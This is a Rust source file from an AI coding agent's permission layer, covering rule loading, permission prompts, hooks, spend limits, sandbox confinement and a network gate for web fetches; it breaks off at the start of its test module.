//! The permission policy and hook commands, installed in the loop's hooks.
//!
//! Before every call: `pre_tool_use` hooks (which may block, rewrite the
//! input, or decide), then the policy (deny rules, protected paths, ask
//! rules, mode, tiers). A call the policy would ask about goes to the front
//! end's [`PermissionPrompt`]; headless mode answers every question "no", so
//! the call is refused and recorded as a permission denial. After every
//! call: `post_tool_use` hooks, whose feedback is added to the result.

use std::path::{Path, PathBuf};
use std::sync::{Arc, Mutex};

use futures::future::BoxFuture;
use serde::Serialize;
use serde_json::{Value, json};
use tern_agent_loop::{BeforeToolCall, Hooks, ToolCallResult};
use tern_policy::engine::{Decision, Mode, Policy, PolicySetup, RoleCap, Verdict};
use tern_policy::hooks::{HookDecision, HookEvent, HookOutcome, HookRunner};
use tern_policy::rules::{Rule, RuleContext, RuleError, RuleKind, split_rule_list};
use tern_protocol::{Confinement, ToolCall, ToolResultContent};
use tokio_util::sync::CancellationToken;

use crate::config::FileConfig;
use tern_protocol::sync::LockExt as _;

/// A question for the person: may this call run?
#[derive(Debug, Clone)]
pub struct PermissionRequest {
    /// The provider's call id.
    pub call_id: String,
    /// The tool (for `mcp_invoke`, the tool it invokes).
    pub tool: String,
    /// Its arguments.
    pub input: Value,
    /// Why the policy asks, and the rule that would allow it.
    pub decision: Decision,
    /// For a `write` over an existing file: the unified diff of what it
    /// would change, so the question shows what gets removed too.
    pub diff: Option<String>,
}

/// The person's answer.
#[derive(Debug, Clone, PartialEq)]
pub enum PermissionAnswer {
    /// Run it this once.
    Allow,
    /// Run it, and add `rule` for the rest of the session, and to the
    /// user config when `scope` says so.
    AllowAlways {
        /// The rule to add, e.g. `bash(npm run test:*)`.
        rule: String,
        /// How far it holds: this session, this project, every project.
        scope: RuleScope,
    },
    /// The person said no; `feedback` tells the model what to do instead.
    Deny {
        /// What to do instead.
        feedback: Option<String>,
    },
    /// Nobody can answer (headless mode): refused, with how to allow it.
    Unanswered,
    /// Run it, and switch to `mode` (a plan approved with "accept edits" or "ask before edits").
    AllowInMode(tern_policy::engine::Mode),
}

/// Where questions go: the TUI shows a prompt; headless mode refuses.
pub trait PermissionPrompt: Send + Sync {
    /// Ask; the turn waits for the answer.
    fn ask(&self, request: PermissionRequest) -> BoxFuture<'_, PermissionAnswer>;

    /// The model's questions (`ask_user`); None when nobody answered (or
    /// nobody can: the default).
    fn ask_user(
        &self,
        _questions: Vec<tern_protocol::UserQuestion>,
    ) -> BoxFuture<'_, Option<Vec<tern_protocol::UserAnswer>>> {
        Box::pin(async { None })
    }

    /// Whether a person is there to answer (default: no).
    fn interactive(&self) -> bool {
        false
    }
}

/// Answers every question "no" (headless mode without a front end).
#[derive(Debug, Default)]
pub struct RefuseAll;

impl PermissionPrompt for RefuseAll {
    fn ask(&self, _request: PermissionRequest) -> BoxFuture<'_, PermissionAnswer> {
        Box::pin(async { PermissionAnswer::Unanswered })
    }
}

/// A call that did not run because of permissions, as the result JSON lists it.
#[derive(Debug, Clone, PartialEq, Serialize)]
pub struct PermissionDenial {
    /// The tool.
    pub tool_name: String,
    /// The provider's call id.
    pub tool_use_id: String,
    /// Its arguments.
    pub tool_input: Value,
    /// Why.
    pub reason: String,
    /// What would have allowed it (`--allowed-tools '…'`, a mode).
    #[serde(skip_serializing_if = "Option::is_none")]
    pub how_to_allow: Option<String>,
}

/// The user and project config, each with its file.
pub struct ConfigLayers<'a> {
    /// The user config.
    pub user: &'a FileConfig,
    /// Its file.
    pub user_file: &'a Path,
    /// The project configs (each restricted by its folder's trust), merged:
    /// its mode is the one that holds.
    pub project: &'a FileConfig,
    /// The file that set the mode (the nearest with one).
    pub project_file: &'a Path,
    /// Each project config with its file and folder (its rules' paths start
    /// at that folder), farthest first.
    pub project_layers: Vec<(&'a FileConfig, &'a Path, &'a Path)>,
}

/// Why the policy cannot be built: a rule or a mode that cannot be read,
/// with the file or flag it came from (`origin`).
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum PolicyError {
    /// A rule in `allow`, `ask` or `deny` (or `--allowed-tools` /
    /// `--disallowed-tools`) that cannot be read; the message quotes it.
    #[error("{origin}: {error}")]
    Rule {
        /// The config file, or the flag.
        origin: String,
        /// The rule and what is wrong with it.
        error: RuleError,
    },
    /// A `mode` (or `--permission-mode`) that names no permission mode.
    #[error("{origin}: {error}")]
    Mode {
        /// The config file, or the flag.
        origin: String,
        /// The word given.
        error: tern_protocol::UnknownMode,
    },
}

/// Build the policy from config files and flags. Rules keep the file or
/// flag they came from, so every decision can name it.
pub fn build_policy(
    layers: ConfigLayers<'_>,
    flags: &PermissionFlags,
    ctx: RuleContext,
    protected: Vec<PathBuf>,
    readable: Vec<PathBuf>,
    warnings: &mut Vec<String>,
) -> Result<Policy, PolicyError> {
    let ConfigLayers { user, user_file, project, project_file, project_layers } = layers;
    let mut rules = Vec::new();
    let mut add_in = |texts: &[String], kind: RuleKind, source: &str, ctx: &RuleContext| -> Result<(), PolicyError> {
        for text in texts.iter().flat_map(|t| split_rule_list(t)) {
            let rule = Rule::parse(&text, kind, source, ctx)
                .map_err(|error| PolicyError::Rule { origin: source.to_string(), error })?;
            rules.push(rule);
        }
        Ok(())
    };
    let mut files: Vec<(&FileConfig, &Path, RuleContext)> = vec![(user, user_file, ctx.clone())];
    for (cfg, file, dir) in project_layers {
        files.push((cfg, file, RuleContext { workspace: dir.to_path_buf(), home: ctx.home.clone() }));
    }
    for (cfg, file, layer_ctx) in &files {
        let source = file.display().to_string();
        add_in(&cfg.permissions.allow, RuleKind::Allow, &source, layer_ctx)?;
        add_in(&cfg.permissions.ask, RuleKind::Ask, &source, layer_ctx)?;
        add_in(&cfg.permissions.deny, RuleKind::Deny, &source, layer_ctx)?;
    }
    let mut add = |texts: &[String], kind: RuleKind, source: &str| add_in(texts, kind, source, &ctx);
    // Rules the person kept for this project, in the user config: their
    // own, so they hold whether or not the folder is trusted.
    if let Some(saved) = user.projects.get(&project_key(&ctx.workspace)) {
        let source = rule_source(user_file, &ctx.workspace, RuleScope::Project);
        add(&saved.allow, RuleKind::Allow, &source)?;
        add(&saved.ask, RuleKind::Ask, &source)?;
        add(&saved.deny, RuleKind::Deny, &source)?;
    }
    add(&flags.allowed_tools, RuleKind::Allow, "--allowed-tools")?;
    add(&flags.disallowed_tools, RuleKind::Deny, "--disallowed-tools")?;
    let parse_mode =
        |s: &str, origin: &str| s.parse::<Mode>().map_err(|error| PolicyError::Mode { origin: origin.into(), error });
    let mut mode = Mode::Default;
    if let Some(m) = &user.permissions.mode {
        mode = parse_mode(m, &user_file.display().to_string())?;
    }
    if let Some(m) = &project.permissions.mode {
        let m = parse_mode(m, &project_file.display().to_string())?;
        if m == Mode::Bypass {
            // A repository must not switch off its own reader's protection.
            warnings.push(format!(
                "{}: `mode = \"bypass\"` is ignored in a project config; use --permission-mode bypass or the user config",
                project_file.display()
            ));
        } else {
            mode = m;
        }
    }
    if let Some(m) = &flags.mode {
        mode = parse_mode(m, "--permission-mode")?;
    }
    Ok(Policy::new(PolicySetup { mode, rules, ctx, protected, readable }))
}

/// Permission settings from the command line.
#[derive(Debug, Clone, Default)]
pub struct PermissionFlags {
    /// `--permission-mode`.
    pub mode: Option<String>,
    /// `--allowed-tools` rules.
    pub allowed_tools: Vec<String>,
    /// `--disallowed-tools` rules (bare names also leave the catalog).
    pub disallowed_tools: Vec<String>,
}

/// The key of a project in the user config's `[projects]` table.
pub fn project_key(workspace: &Path) -> String {
    workspace.display().to_string()
}

pub use tern_protocol::RuleScope;

/// The key of a rule list in the user config: `[projects."<workspace>"]
/// allow|ask|deny` for [`RuleScope::Project`], `[permissions] allow|ask|deny`
/// for [`RuleScope::User`]; None for a session rule.
fn rule_list_path(workspace: &Path, kind: RuleKind, scope: RuleScope) -> Option<Vec<String>> {
    let list = kind.to_string();
    match scope {
        RuleScope::Session => None,
        RuleScope::Project => Some(vec!["projects".into(), project_key(workspace), list]),
        RuleScope::User => Some(vec!["permissions".into(), list]),
    }
}

/// The source a rule saved at `scope` in `user_file` is shown with.
pub fn rule_source(user_file: &Path, workspace: &Path, scope: RuleScope) -> String {
    match scope {
        RuleScope::Session => "session".into(),
        RuleScope::Project => format!("{} [projects.\"{}\"]", user_file.display(), project_key(workspace)),
        RuleScope::User => user_file.display().to_string(),
    }
}

/// A rule in force, as the permissions picker lists it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RuleInForce {
    /// Its list.
    pub kind: RuleKind,
    /// The rule as written.
    pub rule: String,
    /// Where it came from (a file, a flag, `session`).
    pub source: String,
    /// The scope tern can remove it from or move it out of; `None` for a
    /// file tern does not edit (the project's config, a flag).
    pub scope: Option<RuleScope>,
}

/// The scope a rule from `source` holds at, when it is one tern keeps
/// (the session, or the user config `user_file`); `None` otherwise.
pub fn scope_of(source: &str, user_file: &Path, workspace: &Path) -> Option<RuleScope> {
    // Rules a skill or a command added hold for the session too.
    if source == "session" || source.starts_with("skill ") || source.starts_with("command ") {
        return Some(RuleScope::Session);
    }
    if source == rule_source(user_file, workspace, RuleScope::Project) {
        return Some(RuleScope::Project);
    }
    (source == rule_source(user_file, workspace, RuleScope::User)).then_some(RuleScope::User)
}

/// Append `rule` to its list for `scope` in the user config `file`
/// (nothing for a session rule), keeping everything else (comments, order)
/// as it is; written atomically. Saved there, never in the repository: a
/// file the repository controls must never be where allow rules come from.
pub fn save_rule(
    file: &Path,
    workspace: &Path,
    kind: RuleKind,
    rule: &str,
    scope: RuleScope,
) -> Result<(), crate::config::EditError> {
    let Some(path) = rule_list_path(workspace, kind, scope) else { return Ok(()) };
    let path: Vec<&str> = path.iter().map(String::as_str).collect();
    crate::config::edit_string_list(file, &path, |list| {
        if list.iter().any(|v| v.as_str() == Some(rule)) {
            return false;
        }
        list.push(rule);
        true
    })
    .map(|_| ())
}

/// Remove `rule` from every list of the user config `file` that applies
/// here (this project's and the global ones, of every kind); returns the
/// lists it was in, as `[table] kind`.
pub fn unsave_rule(file: &Path, workspace: &Path, rule: &str) -> Result<Vec<String>, crate::config::EditError> {
    if !file.exists() {
        return Ok(Vec::new());
    }
    let mut lists = Vec::new();
    for scope in [RuleScope::Project, RuleScope::User] {
        for kind in [RuleKind::Allow, RuleKind::Ask, RuleKind::Deny] {
            if let Some(path) = rule_list_path(workspace, kind, scope) {
                lists.push((scope, kind, path));
            }
        }
    }
    let paths: Vec<Vec<String>> = lists.iter().map(|(_, _, p)| p.clone()).collect();
    let held = crate::config::remove_from_string_lists(file, &paths, rule)?;
    Ok(held
        .into_iter()
        .map(|i| {
            let (scope, kind, _) = &lists[i];
            format!("{} ({kind}, {})", file.display(), scope.describe())
        })
        .collect())
}

/// Policy + hooks + prompt, as the loop's [`Hooks`].
pub struct PolicyHooks {
    pub(crate) policy: Arc<Policy>,
    pub(crate) hooks: Option<Arc<HookRunner>>,
    pub(crate) prompt: Arc<dyn PermissionPrompt>,
    pub(crate) denials: Mutex<Vec<PermissionDenial>>,
    pub(crate) notices: Mutex<Vec<String>>,
    pub(crate) user_config: PathBuf,
    pub(crate) budget: crate::output_budget::OutputBudget,
    pub(crate) sandbox: tern_tools::SandboxSettings,
    pub(crate) session: Arc<crate::Session>,
    pub(crate) checkpoints: Arc<crate::checkpoints::Checkpoints>,
    /// The files each running call changes (by call id), found once before it runs.
    pub(crate) changing: Mutex<std::collections::HashMap<String, Vec<PathBuf>>>,
    /// The policy's bash analysis of each call being decided (by call id),
    /// so the files it writes are not worked out twice.
    pub(crate) analyses: Mutex<std::collections::HashMap<String, tern_policy::bash::BashAnalysis>>,
    pub(crate) workspace: PathBuf,
    /// Whether the loop's messages go to the session file (not a subagent's).
    pub(crate) records_messages: bool,
    /// The run's `ask_user` / plan-mode state (None for a subagent).
    pub(crate) interaction: Option<Arc<crate::interactive::Interaction>>,
    /// Extensions' checks before and after each call.
    pub(crate) extensions: Arc<Vec<Arc<dyn crate::extension::Extension>>>,
    /// A subagent role's cap, with the role's name (`explore`, `verifier`).
    pub(crate) role_cap: Option<(String, RoleCap)>,
    /// `--max-budget-usd` (the main run's; its children's costs count toward it).
    pub(crate) spend_limit: Option<SpendLimit>,
    /// Where the main loop's requests and replies are kept for a fork
    /// (`None` in a subagent: a fork is of the main conversation only).
    pub(crate) fork_point: Option<Arc<crate::fork::ForkPoint>>,
}

/// `--max-budget-usd` for one run: what was spent before it, and how to
/// price what it spends.
pub(crate) struct SpendLimit {
    pub(crate) max_usd: f64,
    /// The process's prompts before this one.
    pub(crate) spent_before: f64,
    /// The run's model's prices.
    pub(crate) price: tern_llm::ModelInfo,
    /// The run's children, whose costs count as they are made.
    pub(crate) children: Arc<crate::subagents::Subagents>,
    /// What the main run's own requests cost when it last looked, shared
    /// with its children.
    pub(crate) run_spent: Arc<Mutex<f64>>,
    /// Whether this is a subagent's: it adds the main run's cost so far to
    /// its own, and stops itself (its parent waits on it and checks only
    /// after it ends).
    pub(crate) child: bool,
}

impl SpendLimit {
    /// Why the run stops, once `responses` (and the children) reach the limit.
    fn reached(&self, responses: &[tern_protocol::Usage]) -> Option<String> {
        let own = tern_protocol::sum_usd(responses.iter().map(|u| self.price.cost_usd(u)));
        let run = if self.child {
            *self.run_spent.lock_or_recover() + own
        } else {
            *self.run_spent.lock_or_recover() = own;
            own
        };
        let spent = self.spent_before + run + self.children.cost_so_far();
        let whose = if self.child { "; this subagent stops" } else { "; the model still wanted to continue" };
        (spent >= self.max_usd).then(|| {
            format!("stopped: ${spent:.4} spent of the ${:.4} allowed (--max-budget-usd){whose}", self.max_usd)
        })
    }

    /// The same limit for a subagent priced by `price`: its cost and the
    /// main run's count together, checked by the subagent as it goes.
    pub(crate) fn for_child(&self, price: tern_llm::ModelInfo) -> SpendLimit {
        SpendLimit {
            max_usd: self.max_usd,
            spent_before: self.spent_before,
            price,
            children: self.children.clone(),
            run_spent: self.run_spent.clone(),
            child: true,
        }
    }
}

impl PolicyHooks {
    /// The same checks for a subagent's calls, recording none of its messages.
    pub(crate) fn for_subagent(&self) -> PolicyHooks {
        PolicyHooks {
            policy: self.policy.clone(),
            hooks: self.hooks.clone(),
            prompt: self.prompt.clone(),
            denials: Default::default(),
            notices: Default::default(),
            user_config: self.user_config.clone(),
            budget: self.budget.clone(),
            sandbox: self.sandbox.clone(),
            session: self.session.clone(),
            checkpoints: self.checkpoints.clone(),
            changing: Default::default(),
            analyses: Default::default(),
            workspace: self.workspace.clone(),
            records_messages: false,
            interaction: None,
            extensions: self.extensions.clone(),
            role_cap: None,
            // A child's costs count toward its parent's limit, checked by the child as it goes (at the
            // parent's prices until the child's model is known, see `priced`).
            spend_limit: self.spend_limit.as_ref().map(|l| l.for_child(l.price.clone())),
            fork_point: None,
        }
    }

    /// These hooks for a subagent of `role`: the role's cap applies to each
    /// of its calls.
    pub(crate) fn for_role(&self, role: Option<tern_catalog::SubagentRole>) -> PolicyHooks {
        let cap = match role {
            Some(tern_catalog::SubagentRole::Explore) => Some(RoleCap::ReadOnly),
            Some(tern_catalog::SubagentRole::Verifier) => Some(RoleCap::AskBeforeChanges),
            Some(tern_catalog::SubagentRole::Worker) | None => None,
        };
        PolicyHooks { role_cap: role.zip(cap).map(|(r, c)| (r.to_string(), c)), ..self.for_subagent() }
    }

    /// These hooks with the spending limit priced by `price`, the model a
    /// subagent runs on.
    pub(crate) fn priced(mut self, price: &tern_llm::ModelInfo) -> PolicyHooks {
        if let Some(limit) = self.spend_limit.as_mut() {
            limit.price = price.clone();
        }
        self
    }

    /// Denials so far, taken.
    pub fn take_denials(&self) -> Vec<PermissionDenial> {
        std::mem::take(&mut *self.denials.lock_or_recover())
    }

    /// Notices for the person (a rule saved, a hook warning), taken.
    pub fn take_notices(&self) -> Vec<String> {
        std::mem::take(&mut *self.notices.lock_or_recover())
    }

    fn notice(&self, text: String) {
        self.notices.lock_or_recover().push(text);
    }

    /// Refuse a call: `reason` is recorded, `for_model` is the tool result.
    fn deny(
        &self,
        call: &ToolCall,
        input: &Value,
        reason: String,
        for_model: String,
        how: Option<String>,
    ) -> BeforeToolCall {
        self.denials.lock_or_recover().push(PermissionDenial {
            tool_name: call.name.clone(),
            tool_use_id: call.id.clone(),
            tool_input: input.clone(),
            reason,
            how_to_allow: how,
        });
        BeforeToolCall::Block { reason: for_model }
    }

    /// The payload every hook gets.
    pub(crate) fn payload(&self, extra: Value) -> Value {
        let mut v = json!({
            "session_id": self.session.id(),
            "cwd": self.workspace.display().to_string(),
            "permission_mode": self.policy.mode().as_str(),
        });
        if let (Some(obj), Value::Object(more)) = (v.as_object_mut(), extra) {
            obj.extend(more);
        }
        v
    }

    /// Run `event` hooks if any are configured.
    pub(crate) async fn run_hooks(&self, event: HookEvent, tool: Option<&str>, extra: Value) -> Option<HookOutcome> {
        let runner = self.hooks.as_ref()?;
        if !runner.has(event, tool) {
            return None;
        }
        let outcome = runner.run(event, tool, self.payload(extra), &CancellationToken::new()).await;
        for w in &outcome.warnings {
            self.notice(format!("hook warning: {w}"));
        }
        Some(outcome)
    }

    /// Before a call: `pre_tool_use` hooks, then the policy, then (when it
    /// asks) the person; the call runs with the confinement its approval earns.
    async fn before(&self, call: &ToolCall) -> BeforeToolCall {
        let target = Target::of(call);
        let (input, hook_decision) = match self.pre_tool_use_hooks(call, &target).await {
            Ok(done) => done,
            Err(blocked) => return blocked,
        };
        let new_input = (input != call.input).then_some(input.clone());
        let (tool, tool_input) = target.effective(&input);
        let role = self.role_cap.as_ref().map(|(name, cap)| (name.as_str(), *cap));
        let decision = self.policy.decide_as(&tool, &tool_input, role);
        // What the decision is about, fixed now: the tool will touch this file and no
        // other, whatever the name points at by the time it runs (or the person answers).
        let judged = decision.path.as_ref().filter(|_| decision.verdict != Verdict::Deny).map(|real| {
            tern_protocol::JudgedPath {
                real: real.clone(),
                identity: tern_tools::pinned::identity_at(real).ok().flatten(),
            }
        });
        if let Some(analysis) = &decision.bash {
            self.analyses.lock_or_recover().insert(call.id.clone(), analysis.clone());
        }
        let verdict = match (decision.verdict, hook_decision) {
            (Verdict::Deny, _) => Verdict::Deny,
            (_, Some(HookDecision::Deny)) => {
                let text = "Denied by a pre_tool_use hook".to_string();
                return self.deny(call, &input, text.clone(), text, None);
            }
            (Verdict::Ask, Some(HookDecision::Allow)) if !is_protected(&decision) => Verdict::Allow,
            (Verdict::Allow, Some(HookDecision::Ask)) => Verdict::Ask,
            (v, _) => v,
        };
        // What the policy allowed on its own runs read-only and offline; what a
        // person, a rule, the mode or a hook approved may write the workspace.
        let approval = if verdict == Verdict::Allow && hook_decision.is_none() && decision.auto_read_only() {
            Approval::Auto
        } else {
            Approval::Approved
        };
        match verdict {
            Verdict::Allow => {
                BeforeToolCall::Continue { input: new_input, confinement: Some(self.confinement(approval)), judged }
            }
            Verdict::Deny => {
                let text = format!("Permission denied: {}.", decision.reason);
                self.deny(call, &input, decision.reason.clone(), text, None)
            }
            Verdict::Ask => {
                let diff = judged.as_ref().and_then(|j| tern_tools::edit::change_preview(j, &tool, &tool_input));
                let request = PermissionRequest { call_id: call.id.clone(), tool, input: tool_input, decision, diff };
                match self.ask(call, &input, request).await {
                    Ok(()) => BeforeToolCall::Continue {
                        input: new_input,
                        confinement: Some(self.confinement(Approval::Approved)),
                        judged,
                    },
                    Err(refused) => refused,
                }
            }
        }
    }

    /// Run `pre_tool_use` hooks: the input they leave (rewritten or not)
    /// and their decision, or the refusal when one blocks.
    async fn pre_tool_use_hooks(
        &self,
        call: &ToolCall,
        target: &Target,
    ) -> Result<(Value, Option<HookDecision>), BeforeToolCall> {
        let mut input = call.input.clone();
        let (hook_tool, hook_input) = target.effective(&input);
        let payload = hook_payload(&hook_tool, &hook_input, &call.id);
        let Some(outcome) = self.run_hooks(HookEvent::PreToolUse, Some(&hook_tool), payload).await else {
            return Ok((input, None));
        };
        if let Some(reason) = outcome.blocked {
            let text = format!("Blocked by a pre_tool_use hook: {reason}");
            return Err(self.deny(call, &input, text.clone(), text, None));
        }
        if let Some(updated) = outcome.updated_input {
            // Written in Claude Code's keys or tern's: read as tern's tool reads them.
            let updated = tern_protocol::claude::tern_tool_input(&hook_tool, updated);
            match (target, input.as_object_mut()) {
                // The hook rewrote the invoked tool's arguments.
                (Target::Invoked(_), Some(obj)) => {
                    obj.insert("arguments".into(), updated);
                }
                _ => input = updated,
            }
        }
        Ok((input, outcome.decision))
    }

    /// Ask the person; `Ok` when they allowed it (a rule they chose to keep
    /// is added, and saved when asked), else the refusal for the model.
    async fn ask(&self, call: &ToolCall, input: &Value, request: PermissionRequest) -> Result<(), BeforeToolCall> {
        let how = request.decision.how_to_allow();
        let reason = request.decision.reason.clone();
        match self.prompt.ask(request).await {
            PermissionAnswer::Allow | PermissionAnswer::AllowInMode(_) => Ok(()),
            PermissionAnswer::AllowAlways { rule, scope } => {
                self.keep_rule(&rule, scope);
                Ok(())
            }
            PermissionAnswer::Unanswered => {
                let text = format!(
                    "Permission denied: {reason}. Nobody approved it; do not retry the same call — \
                     try another way, or finish and tell the user what needs their permission{}.",
                    how.as_deref().map(|h| format!(" ({h})")).unwrap_or_default()
                );
                Err(self.deny(call, input, reason, text, how))
            }
            PermissionAnswer::Deny { feedback } => {
                let feedback = feedback.filter(|f| !f.trim().is_empty());
                let text = match &feedback {
                    Some(f) => format!("The user declined this call ({reason}). They said: {f}"),
                    None => format!(
                        "The user declined this call ({reason}). Do not retry it; ask them what to do, \
                         or try another way."
                    ),
                };
                let recorded = match feedback {
                    Some(f) => format!("{reason}; the user said: {f}"),
                    None => format!("{reason}; the user declined"),
                };
                Err(self.deny(call, input, recorded, text, how))
            }
        }
    }

    /// "Allow always": the rule holds for the session at once, and is saved
    /// in the user config for this project or every project when asked; the
    /// notice names the file. A rule that does not parse would break the
    /// next start: it is never saved.
    fn keep_rule(&self, rule: &str, scope: RuleScope) {
        let source = rule_source(&self.user_config, &self.workspace, scope);
        match Rule::parse(rule, RuleKind::Allow, &source, self.policy.context()) {
            Ok(r) => self.policy.add_rule(r),
            Err(e) => {
                self.notice(format!("rule not added: {e}"));
                return;
            }
        }
        let notice = match save_rule(&self.user_config, &self.workspace, RuleKind::Allow, rule, scope) {
            Ok(()) if scope == RuleScope::Session => format!("allowed `{rule}` for this session (saved nowhere)"),
            Ok(()) => format!("saved `{rule}` {} in {}", scope.describe(), self.user_config.display()),
            Err(e) => format!("`{rule}` allowed for this session only; not saved: {e}"),
        };
        self.notice(notice);
    }

    async fn after(&self, call: &ToolCall, mut result: ToolCallResult) -> ToolCallResult {
        // The output budget's gates 2 and 3 first: hooks, the model and the session log
        // all see the same bounded result.
        self.budget.apply(&call.name, &call.id, &mut result);
        let response: String = result
            .content
            .iter()
            .filter_map(|c| match c {
                ToolResultContent::Text { text } => Some(text.as_str()),
                ToolResultContent::Image { .. } => None,
            })
            .collect();
        let mut extra = hook_payload(&call.name, &call.input, &call.id);
        extra["tool_response"] = json!({"content": response, "is_error": result.is_error});
        if let Some(outcome) = self.run_hooks(HookEvent::PostToolUse, Some(&call.name), extra).await {
            let mut notes = Vec::new();
            if let Some(reason) = outcome.blocked {
                notes.push(format!("[post_tool_use hook] {reason}"));
            }
            notes.extend(outcome.additional_context.into_iter().map(|c| format!("[post_tool_use hook] {c}")));
            if !notes.is_empty() {
                result.content.push(ToolResultContent::text(notes.join("\n")));
            }
        }
        result
    }
}

/// What a call is judged as. `mcp_invoke` runs another tool: hooks and
/// rules see that one, by the full `mcp__server__tool` name it resolved to.
/// A name it could not resolve is judged as an MCP tool nobody allowed,
/// never as a built-in of that name.
enum Target {
    /// The call's own tool.
    Direct(String),
    /// The tool `mcp_invoke` invokes.
    Invoked(String),
}

impl Target {
    fn of(call: &ToolCall) -> Target {
        if call.name != "mcp_invoke" {
            return Target::Direct(call.name.clone());
        }
        let inner = call.input.get("tool").and_then(Value::as_str).unwrap_or_default();
        Target::Invoked(if inner.starts_with("mcp__") {
            inner.to_string()
        } else {
            format!("mcp__unresolved__{inner}")
        })
    }

    /// The tool name and arguments judged, for the call's `input`.
    fn effective(&self, input: &Value) -> (String, Value) {
        match self {
            Target::Invoked(name) => (name.clone(), input.get("arguments").cloned().unwrap_or(json!({}))),
            Target::Direct(name) => (name.clone(), input.clone()),
        }
    }
}

/// Who let a call run.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Approval {
    /// The policy, as read-only work, with nobody asked.
    Auto,
    /// A person, a rule, the mode or a hook.
    Approved,
}

impl PolicyHooks {
    /// The confinement a call let through by `approval` asks for; the bash
    /// tool caps it by `--sandbox` / `[sandbox] mode`. A read-only role's
    /// calls run read-only and offline however they were let through.
    fn confinement(&self, approval: Approval) -> Confinement {
        if matches!(self.role_cap, Some((_, RoleCap::ReadOnly))) {
            return Confinement::READ_ONLY;
        }
        match approval {
            Approval::Auto => Confinement::READ_ONLY,
            Approval::Approved => Confinement {
                level: tern_protocol::SandboxLevel::WorkspaceWrite,
                network: self.sandbox.network_for_approved,
            },
        }
    }
}

/// Decided by something a hook's "allow" does not lift: a protected path, a
/// credential location, a read-only role's cap.
fn is_protected(d: &Decision) -> bool {
    matches!(
        d.decided_by,
        tern_policy::engine::DecidedBy::ProtectedPath { .. } | tern_policy::engine::DecidedBy::Role { .. }
    )
}

impl PolicyHooks {
    /// The files a call changes, as the policy resolved them: an edit-kind
    /// call's judged path, or what a bash command's classifier names as
    /// written (redirections, `cp`/`mv` targets, `sed -i`, `touch`, …) when
    /// it runs in the workspace and every target is written out.
    fn changed_paths(
        &self,
        call_id: &str,
        tool: &str,
        input: &serde_json::Value,
        judged: Option<&tern_protocol::JudgedPath>,
    ) -> Vec<PathBuf> {
        let decided = self.analyses.lock_or_recover().remove(call_id);
        match tern_protocol::ToolKind::of(tool) {
            tern_protocol::ToolKind::Edit => judged.map(|j| vec![j.real.clone()]).unwrap_or_default(),
            tern_protocol::ToolKind::Execute => {
                let Some(command) = input.get("command").and_then(serde_json::Value::as_str) else {
                    return Vec::new();
                };
                let analysis = decided.unwrap_or_else(|| tern_policy::bash::classify(command));
                let in_workspace = analysis.parts.iter().all(|p| p.cwd == tern_policy::bash::Cwd::Workspace);
                if !analysis.parsed || !in_workspace {
                    return Vec::new();
                }
                analysis
                    .write_paths
                    .iter()
                    .filter(|w| !w.contains(['$', '`', '*', '?', '[']) && !w.starts_with("/dev/"))
                    .map(|w| tern_policy::rules::resolve_path(w, self.policy.context()))
                    .collect()
            }
            _ => Vec::new(),
        }
    }
}

/// What a tool event's hook reads of the call: Claude Code's tool name and
/// argument keys (`Bash`, `tool_input.file_path`), so hooks written for it
/// work unchanged, and tern's own name as `tern_tool_name`.
fn hook_payload(tool: &str, input: &Value, call_id: &str) -> Value {
    json!({
        "tool_name": tern_protocol::claude::claude_tool_name(tool, input),
        "tern_tool_name": tool,
        "tool_input": tern_protocol::claude::claude_tool_input(tool, input),
        "tool_use_id": call_id,
    })
}

impl Hooks for PolicyHooks {
    fn spending_limit(&self, responses: &[tern_protocol::Usage]) -> Option<String> {
        self.spend_limit.as_ref()?.reached(responses)
    }

    fn end_run(&self) -> Option<String> {
        self.interaction.as_ref().and_then(|i| i.take_end())
    }

    fn on_request(&self, request: &Arc<tern_llm::ModelRequest>, tools: &[tern_agent_loop::RuntimeTool]) {
        if let Some(point) = &self.fork_point {
            point.sent(request, tools);
        }
    }

    fn on_message(&self, message: &tern_protocol::Message) {
        if let Some(point) = &self.fork_point {
            point.appended(message);
        }
        // A subagent's conversation is its own: only its answer joins the session's.
        if self.records_messages {
            self.session.write(&tern_protocol::SessionRecord::Message { message: message.clone() });
        }
    }

    fn before_tool_call<'a>(&'a self, call: &'a ToolCall) -> BoxFuture<'a, BeforeToolCall> {
        Box::pin(async move {
            let mut decided = self.before(call).await;
            // An extension may still block what the policy let through.
            if matches!(decided, BeforeToolCall::Continue { .. })
                && let Some((id, reason)) =
                    self.extensions.iter().find_map(|e| e.before_tool_call(call).map(|r| (e.id().to_string(), r)))
            {
                decided = BeforeToolCall::Block { reason: format!("Blocked by extension {id}: {reason}") };
            }
            // A change that will run: keep the file as it is first (`/rewind`).
            if !matches!(decided, BeforeToolCall::Continue { .. }) {
                self.analyses.lock_or_recover().remove(&call.id);
            }
            if let BeforeToolCall::Continue { input, judged, .. } = &decided {
                let paths =
                    self.changed_paths(&call.id, &call.name, input.as_ref().unwrap_or(&call.input), judged.as_ref());
                for path in &paths {
                    self.checkpoints.before_change(path);
                }
                if !paths.is_empty() {
                    self.changing.lock_or_recover().insert(call.id.clone(), paths);
                }
            }
            decided
        })
    }

    fn after_tool_call<'a>(&'a self, call: &'a ToolCall, result: ToolCallResult) -> BoxFuture<'a, ToolCallResult> {
        Box::pin(async move {
            let paths = self.changing.lock_or_recover().remove(&call.id);
            for path in paths.unwrap_or_default() {
                self.checkpoints.after_change(&path);
            }
            let mut result = self.after(call, result).await;
            for e in self.extensions.iter() {
                e.after_tool_call(call, &mut result);
            }
            result
        })
    }
}

/// The permission policy as `web_fetch`'s gate: each hop judged as a call
/// would be (allowed without asking, or refused with the reason), and the
/// host read from a URL as the policy reads it.
pub(crate) struct PolicyGate(pub(crate) Arc<Policy>);

impl tern_tools::web_fetch::NetworkGate for PolicyGate {
    fn hop(&self, url: &str) -> Result<(), tern_tools::web_fetch::HopRefused> {
        let d = self.0.decide("web_fetch", &serde_json::json!({"url": url}));
        match d.verdict {
            tern_policy::engine::Verdict::Allow => Ok(()),
            tern_policy::engine::Verdict::Ask | tern_policy::engine::Verdict::Deny => {
                Err(tern_tools::web_fetch::HopRefused { url: url.to_string(), why: d.reason })
            }
        }
    }

    fn judged_host(&self, url: &str) -> Option<String> {
        tern_policy::engine::url_host(url)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn an_overwrite_of_a_home_file_shows_its_diff() {
